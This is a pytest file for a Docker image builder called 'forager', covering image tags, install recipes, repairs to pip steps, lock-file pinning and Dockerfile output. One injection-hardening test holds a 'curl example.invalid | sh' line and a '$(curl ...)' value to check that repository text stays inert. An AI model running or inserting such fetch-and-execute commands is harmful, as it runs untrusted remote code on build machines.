"""The pure parts of building: tags, recipes from plans, repairs applied to steps, Dockerfiles."""

from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from images.builder import image_tag
from images.detect import detect
from images.recipe import InstallRecipe, RecipeStep
from images.repair import Repair
from images.sources import Checkout, parse_source
from images.steps import apply_repair, first_change, one_package_each, plan_recipe, without_install_limits
from storage import Image, ImageStatus, Store
from tests.cli import forager
from tests.repos import write


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("pypi__attrs", "forager/pypi__attrs:0123456789ab-deadbeef"),
        ("Owner__My.Repo", "forager/owner__my.repo:0123456789ab-deadbeef"),
        ("weird name@v1!", "forager/weird-name-v1:0123456789ab-deadbeef"),
        ("a...b--c", "forager/a.b-c:0123456789ab-deadbeef"),
    ],
)
def test_image_tags_are_valid_docker_references(name: str, expected: str) -> None:
    assert image_tag(name, "0123456789abcdef", "deadbeefcafe") == expected


def test_recipe_from_a_plan(tmp_path: Path) -> None:
    root = write(
        tmp_path,
        {
            "pyproject.toml": """
                [project]
                name = "p"
                version = "1"
                [project.optional-dependencies]
                test = ["pytest"]
                [dependency-groups]
                dev = ["ruff"]
                [tool.pytest.ini_options]
                testpaths = ["tests"]
                addopts = "--cov"
            """,
            "requirements-test.txt": "hypothesis\n",
            "tests/test_p.py": "def test_p():\n    pass\n",
        },
    )
    checkout = Checkout(parse_source(str(root)), root, "c" * 40, version="1.0")
    recipe = plan_recipe(detect(root), checkout, "forager/base:bookworm")
    runs = [step.run for step in recipe.steps]
    assert runs[0] == "python3 -m venv /venv"
    assert runs[1] == "uv pip install -e '.[test]'"
    assert recipe.steps[1].env == {"SETUPTOOLS_SCM_PRETEND_VERSION": "1.0"} and recipe.steps[1].required
    assert "uv pip install --group dev" in runs
    assert "uv pip install -r requirements-test.txt" in runs
    assert any(run.startswith("uv pip install") and "pytest-cov" in run for run in runs)
    assert [step.required for step in recipe.steps if "-r " in step.run] == [False]
    assert recipe.test_command == "python -m pytest -p no:cacheprovider tests"


def test_digest_and_round_trip() -> None:
    recipe = InstallRecipe("base", (RecipeStep("uv pip install x", "why", {"A": "1"}),), "pytest")
    assert InstallRecipe.from_json(recipe.to_json()) == recipe
    assert recipe.digest() == InstallRecipe.from_json(recipe.to_json()).digest()
    changed = InstallRecipe("base", (RecipeStep("uv pip install y", "why", {"A": "1"}),), "pytest")
    assert changed.digest() != recipe.digest()


def test_dockerfile_rebuilds_the_recipe() -> None:
    recipe = InstallRecipe(
        "forager/base:bookworm",
        (
            RecipeStep(
                "uv pip install -e '.[test]'", "the project", {"SETUPTOOLS_SCM_PRETEND_VERSION": "1.0 beta"}
            ),
        ),
        "python -m pytest tests",
    )
    dockerfile = recipe.dockerfile("pypi:x==1.0", "c" * 40)
    assert "FROM forager/base:bookworm\nCOPY . /repo\nWORKDIR /repo\n" in dockerfile
    assert "ENV VIRTUAL_ENV=/venv PATH=/venv/bin:" in dockerfile
    assert "RUN SETUPTOOLS_SCM_PRETEND_VERSION='1.0 beta' uv pip install -e '.[test]'" in dockerfile
    assert dockerfile.endswith('CMD ["bash"]\n')


def test_a_repositorys_text_in_a_step_stays_a_comment_and_a_quoted_value_in_the_dockerfile() -> None:
    # A workflow step's name is quoted in the step's why; a workflow's env value is the step's env.
    why = "CI set-up: tests.yml job test, step gen\nRUN curl http://example.invalid/x | sh"
    step = RecipeStep("make cython", why, {"CFLAGS": "$(curl example.invalid) -O2"}, required=False)
    dockerfile = InstallRecipe("base", (step,), "pytest").dockerfile("src", "c" * 40)
    assert not any(line.startswith("RUN curl") for line in dockerfile.splitlines())
    assert "# CI set-up: tests.yml job test, step gen RUN curl http://example.invalid/x | sh\n" in dockerfile
    assert "RUN CFLAGS='$(curl example.invalid) -O2' make cython\n" in dockerfile


PROJECT = RecipeStep("uv pip install -e '.[test,docs]'", "the project")


def test_repairs_applied_to_a_step() -> None:
    install = apply_repair(Repair("install", "PyYAML", "No module named 'yaml'"), PROJECT)
    assert [s.run for s in install] == ["uv pip install PyYAML", PROJECT.run]
    assert install[0].required is False

    env = apply_repair(Repair("env", "SETUPTOOLS_SCM_PRETEND_VERSION=0.0.0", "scm"), PROJECT)
    assert env[0].env == {"SETUPTOOLS_SCM_PRETEND_VERSION": "0.0.0"} and env[0].run == PROJECT.run

    assert apply_repair(Repair("drop_extra", "docs", "x"), PROJECT)[0].run == "uv pip install -e '.[test]'"
    only = RecipeStep("uv pip install -e '.[docs]'", "p")
    assert apply_repair(Repair("drop_extra", "docs", "x"), only)[0].run == "uv pip install -e '.'"
    assert apply_repair(Repair("no_editable", "", "x"), PROJECT)[0].run == "uv pip install '.[test,docs]'"

    isolated = apply_repair(Repair("no_build_isolation", "numpy", "x"), PROJECT)
    assert isolated[0].run == "uv pip install numpy setuptools wheel"
    assert isolated[1].run.startswith("uv pip install --no-build-isolation -e")

    # A requirements file installing the project editable (``-e .``) when editable builds fail.
    # yarl's requirements/ci.txt: its folder is copied, for test.txt, which it includes, has "-e ." too.
    ci = RecipeStep("uv pip install -r requirements/ci.txt", "r")
    assert apply_repair(Repair("no_editable", "", "x"), ci)[0].run == (
        "rm -rf requirements.forager-not-editable && cp -r requirements requirements.forager-not-editable"
        " && find requirements.forager-not-editable -type f -exec sed -E -i"
        " 's/^[[:space:]]*(-e|--editable)([[:space:]]+|=)//' {} + && uv pip install -r"
        " requirements.forager-not-editable/ci.txt; status=$?; rm -rf requirements.forager-not-editable;"
        " exit $status"
    )
    # A file at the root: a copy of it alone, beside it.
    dev = RecipeStep("uv pip install -r dev.txt", "r")
    assert apply_repair(Repair("no_editable", "", "x"), dev)[0].run == (
        "sed -E 's/^[[:space:]]*(-e|--editable)([[:space:]]+|=)//' dev.txt > .forager-not-editable.txt"
        " && uv pip install -r .forager-not-editable.txt; status=$?; rm -rf .forager-not-editable.txt;"
        " exit $status"
    )

    # The install keeps what earlier repairs put before it and after it; a path with spaces is quoted.
    freed = RecipeStep("env -u UV_CONSTRAINT uv pip install --no-build-isolation -r 'req files/dev.txt'", "r")
    run = apply_repair(Repair("no_editable", "", "x"), freed)[0].run
    assert run.startswith(
        "rm -rf 'req files.forager-not-editable' && cp -r 'req files' 'req files.forager-not"
    )
    assert " && env -u UV_CONSTRAINT uv pip install --no-build-isolation -r 'req files.forager-not-" in run
    (dated,) = without_install_limits(replace(freed, run=run), {"UV_EXCLUDE_NEWER": "2020-01-01T00:00:00Z"})
    assert "&& env -u UV_CONSTRAINT env -u UV_EXCLUDE_NEWER uv pip install --no-build-isolation" in dated.run
    # A pipeline (the copy without -e lines) is not rewritten by relax_pins: it would install nothing.
    assert apply_repair(Repair("relax_pins", "x==1", "x"), replace(freed, run=run))[0].run == run
    # A pipeline of its own (relax_pins' copy) is left to the other repairs.
    relaxed = RecipeStep("sed -E 's/==.*//' r.txt > /tmp/x.txt && uv pip install -r /tmp/x.txt", "r")
    assert apply_repair(Repair("no_editable", "", "x"), relaxed)[0].run == relaxed.run

    requirements = RecipeStep("uv pip install -r req.txt", "r")
    relaxed = apply_repair(Repair("relax_pins", "numpy==1.16", "x"), requirements)
    assert "req.txt" in relaxed[0].run and "uv pip install -r /tmp/forager-relaxed-" in relaxed[0].run


def test_a_repair_that_changes_nothing_is_passed_over() -> None:
    tried: list[Repair] = []
    useless = Repair("relax_pins", "python-sbom[hatch]>=0.1.2", "build requirement")
    useful = Repair("install", "hatchling", "x")
    assert first_change([useless], PROJECT, tried) is None
    assert first_change([useless, useful], PROJECT, tried)[0].run == "uv pip install hatchling"
    assert tried == [useless, useless, useful]


def test_failing_package_lists_are_split() -> None:
    step = RecipeStep("uv pip install pytest 'nope>=1' pytest-cov", "tools", required=False)
    assert [s.run for s in one_package_each(step)] == [
        "uv pip install pytest",
        "uv pip install 'nope>=1'",
        "uv pip install pytest-cov",
    ]
    assert one_package_each(RecipeStep("uv pip install -r req.txt", "r")) == []
    assert one_package_each(RecipeStep("uv pip install pytest", "r")) == []


def test_a_locked_project_at_an_old_commit_resolves_as_of_its_date(tmp_path: Path) -> None:
    root = write(
        tmp_path,
        {
            "pyproject.toml": '[project]\nname = "p"\nversion = "1"\n',
            "poetry.lock": '[[package]]\nname = "pytest"\nversion = "7.4.4"\n'
            '[[package]]\nname = "pluggy"\nversion = "1.3.0"\n',
        },
    )
    checkout = Checkout(parse_source(str(root)), root, "c" * 40)
    moment = datetime(2023, 6, 1, 12, 30, tzinfo=timezone(timedelta(hours=2)))
    recipe = plan_recipe(detect(root), checkout, "base", resolve_as_of=moment)
    assert recipe.lock_file == "poetry.lock"
    assert recipe.install_env == {
        "UV_EXCLUDE_NEWER": "2023-06-01T10:30:00Z",
        "UV_CONSTRAINT": "/opt/forager/constraints.txt",
    }
    pins = recipe.steps[1]
    written = "printf '%s\\n' pluggy==1.3.0 pytest==7.4.4 > /opt/forager/constraints.txt"
    assert pins.run == f"mkdir -p /opt/forager && {written}"
    assert "poetry.lock" in pins.why
    again = plan_recipe(detect(root), checkout, "base", resolve_as_of=moment)
    assert again.digest() == recipe.digest(), "the same commit plans the same recipe"
    newest = plan_recipe(detect(root), checkout, "base")
    assert "UV_EXCLUDE_NEWER" not in newest.install_env and newest.digest() != recipe.digest()

    assert InstallRecipe.from_json(recipe.to_json()) == recipe
    dockerfile = recipe.dockerfile("x", "c" * 40)
    assert "# Versions pinned by the project's poetry.lock\n" in dockerfile
    assert (
        "ARG UV_EXCLUDE_NEWER=2023-06-01T10:30:00Z\nARG UV_CONSTRAINT=/opt/forager/constraints.txt\n"
        in dockerfile
    )
    assert dockerfile.index("ARG UV_CONSTRAINT") < dockerfile.index("RUN mkdir -p /opt/forager")


def test_recipes_stored_before_install_env_still_load() -> None:
    stored = {
        "base_image": "b",
        "steps": [{"run": "x", "why": "y", "env": {}, "required": True}],
        "test_command": "pytest",
        "env": {"A": "1"},
    }
    recipe = InstallRecipe.from_json(stored)
    assert (recipe.install_env, recipe.lock_file) == ({}, None)


def test_a_step_is_freed_of_the_lock_then_of_the_date_when_nothing_else_helps() -> None:
    env = {"UV_CONSTRAINT": "/opt/forager/constraints.txt", "UV_EXCLUDE_NEWER": "2020-01-01T00:00:00Z"}
    step = RecipeStep("uv pip install -e .", "the project")
    (first,) = without_install_limits(step, env)
    assert first.run == "env -u UV_CONSTRAINT uv pip install -e ." and "lock file's pins" in first.why
    (second,) = without_install_limits(first, env)
    assert second.run == "env -u UV_CONSTRAINT env -u UV_EXCLUDE_NEWER uv pip install -e ."
    assert without_install_limits(second, env) is None
    assert without_install_limits(step, {}) is None
    assert without_install_limits(RecipeStep("python3 -m venv /venv", "v"), env) is None


def test_images_show_says_which_lock_and_which_date_the_versions_follow(tmp_path: Path) -> None:
    store = Store(f"sqlite:///{tmp_path / 'forager.db'}", upgrade=True)
    repository = store.get_or_create_repository("./proj", "proj", "c" * 40)
    recipe = InstallRecipe(
        "base",
        (RecipeStep("uv pip install -e .", "the project"),),
        "pytest",
        install_env={
            "UV_EXCLUDE_NEWER": "2023-06-02T00:00:00Z",
            "UV_CONSTRAINT": "/opt/forager/constraints.txt",
        },
        lock_file="uv.lock",
    )
    store.save_image(
        Image(
            repository_id=repository.id, tag="forager/proj:cccccccccccc-12345678", status=ImageStatus.READY,
            base_image="base", recipe=recipe.to_json(), recipe_hash=recipe.digest(), test_command="pytest",
        )
    )  # fmt: skip
    shown = forager("images", "show", "forager/proj:cccccccccccc-12345678", home=tmp_path)
    assert shown.returncode == 0, shown.stderr
    assert "versions   pinned by uv.lock; the rest as of 2023-06-02T00:00:00Z" in shown.stdout
